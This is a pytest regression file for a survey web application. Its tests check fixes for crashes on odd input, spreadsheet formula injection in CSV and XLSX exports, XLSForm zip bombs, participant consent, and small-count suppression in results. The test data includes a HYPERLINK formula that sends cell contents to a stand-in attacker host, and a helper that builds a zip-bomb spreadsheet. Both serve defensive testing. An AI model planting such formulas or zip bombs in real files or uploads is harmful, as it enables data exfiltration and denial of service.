"""Fixes from the surveys review: each test here failed before its fix."""
import pytest

from cocreate.surveys import logic
from cocreate.surveys.kinds import KINDS, AnswerError

from .conftest import UUID1, small_definition

QUESTIONS = {q["key"]: q for s in small_definition()["sections"] for q in s["questions"]}


# 1. Public 500s --------------------------------------------------------------------------------------

@pytest.mark.parametrize("key", ["age", "trust", "rating"])
@pytest.mark.parametrize("raw", ["²", "--5", "9" * 5000, "٣", "1_0", "+-1", "- 5"])
def test_odd_digits_are_an_answer_error_not_a_crash(app, key, raw):
    with app.test_request_context(), pytest.raises(AnswerError) as refused:
        KINDS[QUESTIONS[key]["kind"]].coerce(QUESTIONS[key], raw)
    with app.test_request_context():
        assert str(refused.value)


def test_odd_digits_in_the_sus_block_and_huge_json_numbers_are_refused(app):
    with app.test_request_context():
        with pytest.raises(AnswerError):
            KINDS["sus"].coerce(QUESTIONS["sus"], ["²"] + ["3"] * 9)
        with pytest.raises(AnswerError):
            KINDS["decimal"].coerce(QUESTIONS["hours"], 10 ** 400, strict=True)
        assert KINDS["integer"].coerce(QUESTIONS["age"], " 30 ") == 30
        assert KINDS["likert"].coerce(QUESTIONS["trust"], "4") == 4


@pytest.mark.parametrize("value", ["²", "--5", "9" * 5000])
def test_odd_digits_on_the_public_form_show_the_error(client, make_survey, value):
    _id, code = make_survey()
    response = client.post(f"/s/{code}/en", data={"client_uuid": UUID1, "section": "about", "nav": "next",
                                                  "q-working": "yes", "q-age": value, "q-trust": value,
                                                  "shown": "working age needs city trust intro"})
    assert response.status_code == 200
    assert "Enter a whole number" in response.get_data(as_text=True)


def test_deeply_nested_json_is_a_400(client, make_survey):
    _id, code = make_survey()
    response = client.post(f"/api/v1/surveys/{code}/responses", data="[" * 100000, content_type="application/json")
    assert response.status_code == 400 and "error" in response.json


@pytest.mark.parametrize("text", ["(" * 400 + "${a} = 'x'" + ")" * 400, "${a} = 'x' or " * 400 + "${a} = 'y'"])
def test_conditions_too_deep_or_too_long_are_refused_clearly(app, text):
    with pytest.raises(logic.ConditionError) as refused:
        logic.parse(text)
    with app.test_request_context():
        assert "too" in str(refused.value)


def test_reasonably_nested_conditions_still_parse():
    assert logic.parse("((${a} = 'x'))") == {"op": "eq", "q": "a", "value": "x"}


# 2. Formula injection ---------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _fill_text(app, survey_id, texts):
    import uuid

    from cocreate.extensions import db
    from cocreate.surveys import services
    from cocreate.surveys.models import Survey
    with app.app_context():
        survey = db.session.get(Survey, survey_id)
        for n, text in enumerate(texts):
            services.submit_response(survey, client_uuid=str(uuid.UUID(int=n + 1)), language="en",
                                     answers={"working": "no", "story": text})
        db.session.commit()


FORMULAS = [EVIL, "+1+2", "-3+cmd", "@SUM(A1)"]  # answers are stripped, so tab and CR are checked below


def test_every_formula_start_is_neutralised():
    from cocreate.spreadsheets import safe_cell
    for text in FORMULAS + ["\t=1", "\r=1"]:
        assert safe_cell(text) == "'" + text
    assert safe_cell("plain") == "plain" and safe_cell(-5) == -5 and safe_cell(None) is None


def test_csv_export_writes_formulas_as_text(app, client, auth, make_survey):
    import csv
    import io
    survey_id, _code = make_survey()
    _fill_text(app, survey_id, FORMULAS + ["plain"])
    auth.login_as("researcher")
    response = client.get(f"/surveys/{survey_id}/export/responses.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert sorted(row["story"] for row in rows) == sorted(["'" + text for text in FORMULAS] + ["plain"])


def test_xlsx_export_and_xlsform_never_hold_formulas(app, client, auth, make_survey, survey_in):
    import io

    from openpyxl import load_workbook

    from cocreate.surveys import services, xlsform
    survey_id, _code = make_survey()
    _fill_text(app, survey_id, FORMULAS)
    auth.login_as("researcher")
    response = client.get(f"/surveys/{survey_id}/export/responses.xlsx")
    sheet = load_workbook(io.BytesIO(response.data))["responses"]
    column = [cell.value for cell in sheet[1]].index("story")
    cells = [row[column] for row in list(sheet.iter_rows())[1:]]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sorted(cell.value for cell in cells) == sorted("'" + text for text in FORMULAS)
    with survey_in(survey_id) as survey, app.test_request_context():
        defn = services.definition(survey)
        defn["sections"][0]["questions"][0]["label"]["en"] = "=1+1"
        book = load_workbook(io.BytesIO(xlsform.write(defn)))
    labels = [row for row in book["survey"].iter_rows() if row[0].value == "yes_no" or row[1].value == "working"]
    assert labels[0][2].value == "=1+1" and labels[0][2].data_type == "s"  # read back as written, never run


# 3. XLSForm zip bomb ----------------------------------------------------------------------------------

def _xlsform(rows_extra=0, relevant=""):
    import io
    import re
    import zipfile

    from openpyxl import Workbook
    book = Workbook()
    sheet = book.active
    sheet.title = "survey"
    sheet.append(["type", "name", "label", "relevant"])
    sheet.append(["integer", "a", "A", ""])
    sheet.append(["integer", "b", "B", relevant])
    out = io.BytesIO()
    book.save(out)
    if not rows_extra:
        return out.getvalue()
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.endswith("sheet1.xml"):
                text = re.sub(r'<dimension ref="[^"]+"/>', '<dimension ref="A1:D1000000"/>', data.decode())
                row = '<row><c t="inlineStr"><is><t>integer</t></is></c></row>'
                data = text.replace("</sheetData>", row * rows_extra + "</sheetData>").encode()
            target.writestr(item, data)
    return packed.getvalue()


def test_an_xlsform_zip_bomb_is_refused_before_it_is_unpacked(app):
    import time

    from cocreate.surveys import xlsform
    bomb = _xlsform(400_000)
    assert len(bomb) < xlsform.MAX_UPLOAD_BYTES
    started = time.monotonic()
    with app.test_request_context(), pytest.raises(xlsform.XLSFormError) as refused:
        xlsform.read(bomb)
    assert time.monotonic() - started < 2
    with app.test_request_context():
        assert "too large" in str(refused.value)


def test_too_many_rows_are_refused_while_reading(app):
    from cocreate.surveys import xlsform
    with app.test_request_context(), pytest.raises(xlsform.XLSFormError) as refused:
        xlsform.read(_xlsform(xlsform.MAX_ROWS + 10))
    with app.test_request_context():
        assert "rows" in str(refused.value)


def test_deeply_nested_relevant_in_an_xlsform_is_a_problem_not_a_crash(app):
    from cocreate.surveys import xlsform
    with app.test_request_context():
        reading = xlsform.read(_xlsform(relevant="(" * 400 + "${a} = 1" + ")" * 400))
        assert any("brackets" in problem.message for problem in reading.problems)


# 5. Consent to take part ------------------------------------------------------------------------------

def _participants(app, survey_id, make_project):
    """Participants at the survey's site: consenting, never consented, withdrawn; and one at another project."""
    from datetime import date

    import sqlalchemy as sa

    from cocreate.extensions import db
    from cocreate.projects.models import PilotSite
    from cocreate.surveys.models import Survey
    from cocreate.workshops.models import Consent, ConsentScope, Participant, StakeholderGroup
    other_slug = make_project(slug="elsewhere", sites=("IT",))
    with app.app_context():
        survey = db.session.get(Survey, survey_id)
        site = db.session.scalars(sa.select(PilotSite).where(PilotSite.project_id == survey.project_id)).first()
        from cocreate.projects.services import get_project_by_slug
        other_site = get_project_by_slug(other_slug).sites[0]
        people = {}
        for number, (name, where, consent) in enumerate([("yes", site, "active"), ("later", site, "active"),
                                                         ("never", site, None),
                                                         ("withdrawn", site, "withdrawn"),
                                                         ("other", other_site, "active")], start=1):
            person = Participant(site_id=where.id, code=f"ES-M-{number:03d}" if name != "other" else "IT-M-009",
                                 stakeholder_group=StakeholderGroup.MIGRANT, number=number, languages=["ar"])
            db.session.add(person)
            db.session.flush()
            if consent:
                db.session.add(Consent(participant_id=person.id, scope=ConsentScope.TAKE_PART, form_version="v1",
                                       given_on=date(2024, 1, 1),
                                       withdrawn_on=date(2024, 2, 1) if consent == "withdrawn" else None))
            people[name] = person.code
        db.session.commit()
    return people


def _api(client, code, participant, n):
    return client.post(f"/api/v1/surveys/{code}/responses",
                       json={"client_uuid": f"0b7e4c1e-5f0e-4c57-9a3e-6f1d2a0000{n:02d}", "language": "en",
                             "participant": participant, "answers": {"working": "no"}})


def test_only_participants_consenting_to_take_part_can_answer_with_one_message(app, client, make_survey,
                                                                               make_project):
    _id, code = make_survey(mode="linked")
    people = _participants(app, _id, make_project)
    refused = [_api(client, code, people[name], n) for n, name in enumerate(["never", "withdrawn", "other"], 1)]
    refused.append(_api(client, code, "ES-M-999", 9))
    assert {r.status_code for r in refused} == {422}
    assert len({r.json["errors"]["participant"] for r in refused}) == 1  # codes cannot be told apart
    assert _api(client, code, people["yes"], 20).status_code == 201
    web = [client.post(f"/s/{code}/en", data={"client_uuid": UUID1, "section": "", "nav": "next",
                                              "participant": participant}).get_data(as_text=True)
           for participant in [people["never"], people["withdrawn"], people["other"], "ES-M-999"]]
    assert all("This participant code is not known for this survey" in html for html in web)


def test_responses_of_people_who_withdrew_are_left_out_of_results_and_exports(app, make_survey, make_project):
    from datetime import date

    from cocreate.extensions import db
    from cocreate.surveys import exports, results, services
    from cocreate.surveys.models import Survey
    from cocreate.workshops.models import Consent
    survey_id, _code = make_survey(mode="linked")
    people = _participants(app, survey_id, make_project)
    with app.app_context():
        survey = db.session.get(Survey, survey_id)
        consent = None
        for n, name in enumerate(["yes", "later"], 1):
            services.submit_response(survey, client_uuid=f"0b7e4c1e-5f0e-4c57-9a3e-6f1d2a0000{n:02d}",
                                     language="en", answers={"working": "no"}, participant_code=people[name])
        db.session.commit()
        consent = db.session.scalars(
            db.select(Consent).where(Consent.participant.has(code=people["later"]))).one()
        consent.withdrawn_on = date(2024, 6, 1)
        db.session.commit()
    with app.test_request_context():
        survey = db.session.get(Survey, survey_id)
        assert [r.participant.code for r in services.list_responses(survey)] == [people["yes"]]
        total, _found = results.summarise(survey, services.definition(survey), "en")
        assert str(total) == "1"
        header, rows = exports.table(survey)
        assert [row[header.index("participant")] for row in rows] == [people["yes"]]


# 6. Filtered results leak through zero cells ----------------------------------------------------------

def _fill_grouped(app, survey_id, groups):
    """groups: [(site_id or None, stakeholder group, answers)] -> stored responses with those attributes."""
    import uuid

    import sqlalchemy as sa

    from cocreate.extensions import db
    from cocreate.surveys import services
    from cocreate.surveys.models import Response, Survey
    with app.app_context():
        survey = db.session.get(Survey, survey_id)
        for n, (site_id, group, answers) in enumerate(groups):
            response, _created = services.submit_response(survey, client_uuid=str(uuid.UUID(int=n + 1)),
                                                          language="en", answers=answers)
            db.session.execute(sa.update(Response).where(Response.id == response.id)
                               .values(site_id=site_id, stakeholder_group=group))
        db.session.commit()


def _site_of(app, survey_id):
    import sqlalchemy as sa

    from cocreate.extensions import db
    from cocreate.projects.models import PilotSite
    from cocreate.surveys.models import Survey
    with app.app_context():
        survey = db.session.get(Survey, survey_id)
        return db.session.scalars(sa.select(PilotSite.id).where(PilotSite.project_id == survey.project_id)).first()


SUS_GOOD = [5, 1] * 5


def test_a_filtered_selection_below_five_shows_no_breakdown(app, client, auth, make_survey):
    from cocreate.extensions import db
    from cocreate.surveys import results, services
    from cocreate.surveys.models import Survey
    survey_id, _code = make_survey()
    _fill_grouped(app, survey_id, [(None, "migrant", {"working": "yes", "hours": 10, "sus": SUS_GOOD})] * 2
                  + [(None, "public_service", {"working": "no"})] * 8)
    with app.test_request_context():
        survey = db.session.get(Survey, survey_id)
        total, found = results.summarise(survey, services.definition(survey), "en", stakeholder_group="migrant")
        assert str(total) == "<5" and found == []
    auth.login_as("researcher")
    html = client.get(f"/surveys/{survey_id}/results?group=migrant").get_data(as_text=True)
    assert "Fewer than 5 responses match this selection" in html and "result-sus" not in html


def test_zeros_beside_a_lone_small_cell_are_hidden_and_min_max_too(app, make_survey):
    from cocreate.extensions import db
    from cocreate.surveys import results, services
    from cocreate.surveys.models import Survey
    survey_id, _code = make_survey()
    site_id = _site_of(app, survey_id)
    # at the site: 3 people answer the SUS (all in one band), 7 do not; hours vary
    _fill_grouped(app, survey_id, [(site_id, "migrant", {"working": "yes", "hours": 10, "sus": SUS_GOOD})] * 3
                  + [(site_id, "migrant", {"working": "yes", "hours": 30})] * 7
                  + [(None, "migrant", {"working": "no"})] * 6)
    with app.test_request_context():
        survey = db.session.get(Survey, survey_id)
        for filters in ({"site_id": site_id}, {"stakeholder_group": "migrant"}):
            total, found = results.summarise(survey, services.definition(survey), "en", **filters)
            by_key = {r.question["key"]: r for r in found}
            if "site_id" in filters:
                assert str(total) == "10"
                assert [str(row.count) for row in by_key["sus"].rows] == ["–", "–", "–", "<5"]  # not 0/0/0/<5
                assert by_key["hours"].numbers == {"mean": 24.0, "median": 30.0}  # no lowest, no highest
            else:
                assert str(total) == "16"
                working = {row.label: str(row.count) for row in by_key["working"].rows}
                assert working == {"Yes": "10", "No": "6"}
                assert "min" not in by_key["hours"].numbers
        _total, unfiltered = results.summarise(survey, services.definition(survey), "en")
        hours = {r.question["key"]: r for r in unfiltered}["hours"].numbers
        assert hours["min"] == 10 and hours["max"] == 30  # without a filter they stay


def test_suppress_keeps_zeros_when_two_cells_are_hidden():
    from cocreate.surveys.results import _suppress
    shown = _suppress({"a": 0, "b": 3, "c": 9})
    assert [str(shown[k]) for k in "abc"] == ["0", "<5", "–"]
    lone = _suppress({"a": 0, "b": 3, "c": 0})
    assert [str(lone[k]) for k in "abc"] == ["–", "<5", "–"]


# 7. Shared device ---------------------------------------------------------------------------------------

def test_a_web_resubmission_with_other_answers_is_a_new_response(app, client, make_survey):
    import sqlalchemy as sa

    from cocreate.extensions import db
    from cocreate.surveys.models import Response
    _id, code = make_survey()
    base = {"client_uuid": UUID1, "section": "end", "nav": "submit", "shown": "story sus"}
    first = {**base, "q-working": "no", "q-story": "First person"}
    assert client.post(f"/s/{code}/en", data=first).status_code == 302
    assert client.post(f"/s/{code}/en", data=first).status_code == 302  # pressing send twice: one response
    # the next person on the same phone got the first person's client_uuid back from a draft
    assert client.post(f"/s/{code}/en", data={**base, "q-working": "yes", "q-hours": "20",
                                              "q-story": "Second person"}).status_code == 302
    with app.app_context():
        stored = db.session.scalars(sa.select(Response).order_by(Response.id)).all()
        assert [r.answers.get("story") for r in stored] == ["First person", "Second person"]
        assert stored[0].client_uuid == UUID1 and stored[1].client_uuid != UUID1


def test_the_api_keeps_returning_the_first_response_for_the_same_uuid(client, make_survey):
    _id, code = make_survey()
    url = f"/api/v1/surveys/{code}/responses"
    first = client.post(url, json={"client_uuid": UUID1, "language": "en", "answers": {"working": "no"}})
    other = client.post(url, json={"client_uuid": UUID1, "language": "en",
                                   "answers": {"working": "yes", "hours": 20}})
    assert first.status_code == 201 and other.status_code == 200 and other.json["id"] == first.json["id"]


# 8. XLSForm as Kobo users write it ----------------------------------------------------------------------

def test_numeric_choice_names_and_the_relevants_that_use_them_are_imported(app):
    import io

    from openpyxl import Workbook

    from cocreate.surveys import xlsform
    book = Workbook()
    sheet = book.active
    sheet.title = "survey"
    sheet.append(["type", "name", "label::English (en)", "label::Arabic (ar)", "required", "relevant"])
    sheet.append(["select_one yn", "q1", "Work?", "عمل؟", True, None])
    sheet.append(["begin_group", "g1", "Group", None, None, "${q1} = '1'"])
    sheet.append(["integer", "q2", "Hours", "ساعات", "true()", "${q1} = 1"])
    sheet.append(["end_group", None, None, None, None, None])
    choices = book.create_sheet("choices")
    choices.append(["list_name", "name", "label::English (en)", "label::Arabic (ar)"])
    choices.append(["yn", 1, "Yes", "نعم"])
    choices.append(["yn", 2, "No", "لا"])
    out = io.BytesIO()
    book.save(out)
    with app.test_request_context():
        reading = xlsform.read(out.getvalue())
    assert reading.problems == []
    questions = {q["key"]: q for s in reading.definition["sections"] for q in s["questions"]}
    assert [c["value"] for c in questions["q1"]["choices"]] == ["1", "2"]
    assert questions["q2"]["condition"] == {"op": "eq", "q": "q1", "value": 1}
    assert reading.definition["sections"][-1]["condition"] == {"op": "eq", "q": "q1", "value": "1"}


def test_numeric_choice_values_are_accepted_by_the_builder(app, make_survey, survey_in):
    from cocreate.extensions import db
    from cocreate.surveys import services
    survey_id, _code = make_survey()
    with survey_in(survey_id) as survey, app.test_request_context():
        city = services.find_question(survey, "city")
        services.save_question(city.section, city, key="city", kind="single_choice", label="City",
                               choices=[("1", "Madrid"), ("2", "Rome")], actor=None)
        db.session.commit()
        assert [c["value"] for c in services.find_question(survey, "city").choices] == ["1", "2"]


@pytest.mark.parametrize("tree", [
    {"op": "eq", "q": "name", "value": "O'Brien"},
    {"op": "eq", "q": "name", "value": 'say "hi"'},
    {"op": "gt", "q": "n", "value": 1e-05},
    {"op": "lt", "q": "n", "value": 2.5e20},
    {"op": "ge", "q": "n", "value": -0.125},
    {"op": "eq", "q": "n", "value": 12},
    {"op": "any_of", "q": "c", "values": ["1", "2"]},
])
def test_conditions_round_trip_through_their_text(tree):
    text = logic.to_text(tree)
    again = logic.parse(text)
    assert again == tree and type(again.get("value")) is type(tree.get("value"))


# 9. Foundation reuse ------------------------------------------------------------------------------------

def test_builder_fields_have_limits_with_our_translated_message(app):
    from werkzeug.datastructures import MultiDict

    from cocreate.surveys.forms import QuestionForm, SectionForm, SurveyForm
    with app.test_request_context(), __import__("flask_babel").force_locale("ar"):
        survey = SurveyForm(MultiDict({"title": "  T  ", "source_language": "en", "mode": "anonymous",
                                       "description": "x" * 5001}), meta={"csrf": False})
        assert not survey.description.validate(survey)
        assert survey.title.data == "T"
        message = survey.description.errors[0]
        assert "5000" in message and message != "Use at most 5000 characters."  # in Arabic, from our catalog
        section = SectionForm(MultiDict({"key": "a", "title": "A", "condition": "${a} = 'x' or " * 200}),
                              meta={"csrf": False})
        assert not section.validate() and section.condition.errors
        question = QuestionForm(MultiDict({"kind": "single_choice", "key": "q", "label": "Q",
                                           "choices": "a = A\n" * 4000}), meta={"csrf": False})
        assert not question.validate() and question.choices.errors


def test_translations_have_a_limit(app, make_survey, survey_in):
    from cocreate.surveys import services
    survey_id, _code = make_survey()
    with survey_in(survey_id) as survey, app.test_request_context():
        with pytest.raises(services.SurveyError):
            services.save_translations(survey, "fr", {"title": "x" * 5001}, actor=None)


def test_one_text_direction_and_one_utcnow():
    from cocreate.surveys import answer, models, services
    assert answer.page_direction("ar") == "rtl" and answer.page_direction("ar-SY") == "rtl"
    assert answer.page_direction("fr") == "ltr" and answer.page_direction(None) == "ltr"
    assert services.utcnow is models.utcnow


# 10. Speed --------------------------------------------------------------------------------------------

def _count_queries(app, work):
    from contextlib import contextmanager

    import sqlalchemy as sa

    from cocreate.extensions import db

    @contextmanager
    def counting():
        statements = []

        def before(_conn, _cursor, statement, *_args):
            statements.append(statement)
        sa.event.listen(db.engine, "before_cursor_execute", before)
        try:
            yield statements
        finally:
            sa.event.remove(db.engine, "before_cursor_execute", before)
    with app.test_request_context():
        db.session.expire_all()
        with counting() as statements:
            work()
        return len(statements)


def test_the_export_query_count_does_not_grow_with_the_responses(app, make_survey):
    import uuid

    from cocreate.extensions import db
    from cocreate.surveys import exports, results, services
    from cocreate.surveys.models import Survey
    from datetime import date

    from cocreate.workshops.models import Consent, ConsentScope, Participant, StakeholderGroup
    survey_id, _code = make_survey(mode="linked")
    site_id = _site_of(app, survey_id)

    def add(start, count):  # each response by a participant of their own
        with app.app_context():
            survey = db.session.get(Survey, survey_id)
            for n in range(start, start + count):
                person = Participant(site_id=site_id, code=f"ES-M-{n:03d}", number=n, languages=["en"],
                                     stakeholder_group=StakeholderGroup.MIGRANT)
                db.session.add(person)
                db.session.flush()
                db.session.add(Consent(participant_id=person.id, scope=ConsentScope.TAKE_PART, form_version="v1",
                                       given_on=date(2024, 1, 1)))
                services.submit_response(survey, client_uuid=str(uuid.UUID(int=n)), language="en",
                                         answers={"working": "no", "story": f"text {n}"}, participant_code=person.code)
            db.session.commit()

    def export():
        survey = services.get_survey(survey_id)
        exports.to_csv(*exports.table(survey))
        exports.to_csv(*exports.codebook(survey))

    def summary():
        survey = services.get_survey(survey_id)
        results.summarise(survey, services.definition(survey), "en")
        for attribute in ("site_id", "stakeholder_group", "language"):
            results.breakdown(survey, attribute, str)

    add(1, 3)
    few = _count_queries(app, export), _count_queries(app, summary)
    add(100, 30)
    many = _count_queries(app, export), _count_queries(app, summary)
    assert many == few, (few, many)
